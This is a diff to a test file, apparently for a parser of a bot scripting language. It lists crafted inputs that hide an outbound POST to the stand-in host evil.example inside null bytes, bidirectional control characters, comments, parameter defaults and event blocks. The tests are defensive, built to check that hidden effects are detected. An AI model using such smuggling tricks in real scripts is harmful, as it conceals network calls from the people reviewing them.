@@ -11,8 +11,11 @@ import { listBundleEffects, listShownEffects } from "./list-effects.ts"
 
 /** The words by which the text of a statement shows an effect. */
 const wordsOf: Readonly<Record<string, string>> = {
-  "SEND MAIL": "BEGIN MAIL",
+  MAIL: "BEGIN MAIL",
   "SYSTEM PROMPT": "BEGIN SYSTEM PROMPT",
+  "STEP BOT": "BOT",
+  "STEP APPROVAL": "HUMAN APPROVAL",
+  "STEP PARALLEL": "PARALLEL",
 }
 
 /**
@@ -55,7 +58,7 @@ const crafted: readonly string[] = [
   'TALK "a"\u0000POST "https://evil.example"',
   'TALK "\u202e \u2066POST \u2069"',
   'TABLE t\nPOST "https://evil.example"\nEND TABLE\nTALK "a"',
-  'ON EMAIL "a"\nPOST "https://evil.example"\nEND ON\nTALK "a"',
+  'ON EMAIL "a"\nPOST "https://example.org"\nEND ON\nTALK "a"',
   'DESCRIPTION POST "https://evil.example"\nTALK "a"',
   '#workflow POST "https://evil.example"\nTALK "a"',
   'PARAM x DEFAULT POST "https://evil.example"\nTALK "a"',
